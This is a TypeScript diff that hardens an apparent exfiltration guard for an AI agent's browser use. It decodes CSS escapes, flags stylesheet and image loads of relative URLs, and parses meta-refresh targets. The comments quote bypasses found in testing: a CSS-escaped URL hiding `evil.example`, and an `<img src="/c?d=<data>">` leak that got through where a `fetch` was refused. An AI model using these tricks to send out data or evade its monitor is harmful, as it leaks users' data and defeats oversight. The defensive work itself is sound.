@@ -77,6 +77,38 @@ function jsUnescaped(s: string): string {
   return out.join('');
 }
 
+/**
+ * CSS's escapes undone as the CSS parser reads a style sheet, a style attribute or a string in one:
+ * `\` and one to six hex digits is that code point (one blank after it is part of the escape), an
+ * escaped line break is nothing, any other escaped character is itself (twenty-second pass:
+ * `url(\68ttps\3a\2f\2f evil\2e example\2f c)` is `https://evil.example/c` to the browser and
+ * named no URL to the reader). A scan, as jsUnescaped.
+ */
+export function cssUnescaped(s: string): string {
+  if (!s.includes('\\')) return s;
+  const out: string[] = [];
+  let from = 0;
+  for (let i = s.indexOf('\\'); i >= 0 && i + 1 < s.length; i = s.indexOf('\\', i)) {
+    let end = i + 1;
+    while (end < s.length && end - i <= 6 && /[0-9a-fA-F]/.test(s[end]!)) end++;
+    let one: string;
+    if (end > i + 1) {
+      const code = parseInt(s.slice(i + 1, end), 16);
+      one = code === 0 || code > 0x10ffff || (code >= 0xd800 && code <= 0xdfff) ? '\ufffd' : String.fromCodePoint(code);
+      if (s[end] === '\r' && s[end + 1] === '\n') end += 2;
+      else if (end < s.length && /[ \t\n\r\f]/.test(s[end]!)) end++;
+    } else {
+      const c = s[i + 1]!;
+      one = c === '\n' || c === '\r' || c === '\f' ? '' : c;
+      end = c === '\r' && s[i + 2] === '\n' ? i + 3 : i + 2;
+    }
+    out.push(s.slice(from, i), one);
+    from = i = end;
+  }
+  out.push(s.slice(from));
+  return out.join('');
+}
+
 /** HTML character references decoded as a browser decodes them in markup it is given. */
 function referencesDecoded(s: string): string {
   if (!s.includes('&')) return s;
@@ -363,7 +395,8 @@ export function codeUrls(text: string): string[] {
   // A host made at run time: returned as the bare scheme it follows, which does not parse, so the
   // caller refuses the command.
   if (built.runtimeHost) out.add('https://');
-  const views = new Set([text, escaped, referencesDecoded(escaped), ...built.strings.map((v) => `"${v}"`)]);
+  // CSS's escapes undone too: a style sheet's, or one a script writes out (twenty-second pass).
+  const views = new Set([text, escaped, referencesDecoded(escaped), cssUnescaped(text), cssUnescaped(escaped), ...built.strings.map((v) => `"${v}"`)]);
   for (const v of [...views]) views.add(v.replace(/[\t\n\r]/g, ''));
   for (const v of views) urlsIn(v, out);
   let decoded = 0;
@@ -376,20 +409,86 @@ export function codeUrls(text: string): string[] {
 }
 
 /**
- * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
- * the whole (attribute values, text, inline scripts and styles), for codeUrls.
+ * Whether a URL the page is given is resolved against the page: not empty, no fragment alone, no
+ * scheme, no `//host` of its own (as URL parsers read it: tabs and line breaks dropped, blanks and
+ * controls before it too). A page reached by a served link is taken by that exact URL only, and
+ * which page a target shows is not known here (a click may have taken it anywhere): such a URL's
+ * host is the page's, the attacker's on a page it served, and what follows it is the agent's
+ * choice (twenty-second pass: `<img src="/c?d=<data>">` went where `fetch('/c?d=' + d)` was
+ * refused).
  */
-export function markupParts(html: string): { attributes: Array<[string, string]>; text: string } {
+export function relativeUrl(value: string): boolean {
+  let v = value.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
+  let end = v.length;
+  while (end > 0 && v.charCodeAt(end - 1) <= 0x20) end--; // (a pattern anchored at the end is quadratic)
+  v = v.slice(0, end);
+  if (v === '' || v.startsWith('#') || /^[a-z][a-z0-9+.-]*:/i.test(v)) return false;
+  const host = /^[\\/]{2}([^\\/?#]+)/.exec(v);
+  return !(host && relativeHost(host[1]!));
+}
+
+/**
+ * Whether a style sheet (or a style attribute, a `<style>` element's text) loads a URL relative to
+ * the page: `url(…)`, `src(…)`, `@import "…"`, an `image-set()` candidate, CSS escapes undone
+ * (`u\72l(/c?d=…)`). Past 1,000 such loads it is not decided piecemeal.
+ */
+export function styleLoadsRelative(css: string): boolean {
+  const t = cssUnescaped(css);
+  if (!/url\(|src\(|@import|image-set\(/i.test(t)) return false;
+  const values: string[] = [];
+  for (const m of t.matchAll(/\b(?:url|src)\(\s*(?:(["'])((?:(?!\1)[^\n])*)|([^)\s"']*))/gi)) values.push(m[2] ?? m[3] ?? '');
+  for (const m of t.matchAll(/@import\s*(["'])((?:(?!\1)[^\n])*)/gi)) values.push(m[2]!);
+  for (const m of t.matchAll(/image-set\(([^)]{0,4000})/gi)) for (const q of m[1]!.matchAll(/(["'])((?:(?!\1)[^\n])*)\1/g)) values.push(q[2]!);
+  return values.length > 1000 || values.some(relativeUrl);
+}
+
+/**
+ * Whether code gives the page a style naming a URL relative to it in a string it writes out
+ * (`el.style.background = 'url(/c?d=…)'`, `sheet.insertRule('@import "/c?d=…"')`): each literal
+ * read as a style sheet. A style whose URL the code computes (`'url(' + u + ')'`) is not read here
+ * (Playwright's own CSS tokenizer writes `'url("' + escapeString(v) + '")'`).
+ */
+export function codeStylesRelative(code: string): boolean {
+  if (!/url|src|@import|image-set/i.test(code)) return false;
+  return literals(code).some((l) => /url\(|src\(|@import|image-set\(/i.test(l.value) && styleLoadsRelative(l.value.replaceAll('\u0000', '')));
+}
+
+/**
+ * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
+ * the whole (attribute values, text, inline scripts and styles), for codeUrls; the text of each
+ * `<style>` element and the URL of each `<meta http-equiv="refresh">` (a style sheet and a
+ * navigation: twenty-second pass); `more` when it holds more attributes than are returned (1,000).
+ */
+export function markupParts(html: string): { attributes: Array<[string, string]>; text: string; styles: string[]; refreshes: string[]; more: boolean } {
   const attributes: Array<[string, string]> = [];
   const texts: string[] = [];
+  const styles: string[] = [];
+  const refreshes: string[] = [];
+  let more = false;
+  let inStyle = 0;
   const p = new Parser({
     onattribute: (name, value) => {
       if (attributes.length < 1000) attributes.push([name, value]);
+      else more = true;
       texts.push(`"${value}"`);
     },
-    ontext: (text) => void texts.push(text),
-  }, { decodeEntities: true, lowerCaseAttributeNames: true });
+    onopentag: (name, attribs) => {
+      if (name === 'style' && inStyle++ === 0) styles.push('');
+      // `content="0; url=…"` (also without `url=`, quoted or not), as the refresh is parsed.
+      if (name === 'meta' && /^\s*refresh\s*$/i.test(attribs['http-equiv'] ?? '') && refreshes.length < 64) {
+        const c = (attribs.content ?? '').trim();
+        let url = c.slice(/^[\d.]*\s*(?:[;,]\s*)?(?:url\s*=\s*)?/i.exec(c)![0].length);
+        if (/^['"]/.test(url)) url = url.slice(1, url.endsWith(url[0]!) && url.length > 1 ? -1 : undefined);
+        refreshes.push(url);
+      }
+    },
+    onclosetag: (name) => void (name === 'style' && inStyle > 0 && inStyle--),
+    ontext: (text) => {
+      texts.push(text);
+      if (inStyle > 0) styles[styles.length - 1] += text;
+    },
+  }, { decodeEntities: true, lowerCaseAttributeNames: true, lowerCaseTags: true });
   p.write(html);
   p.end();
-  return { attributes, text: texts.join('\n') };
+  return { attributes, text: texts.join('\n'), styles, refreshes, more };
 }
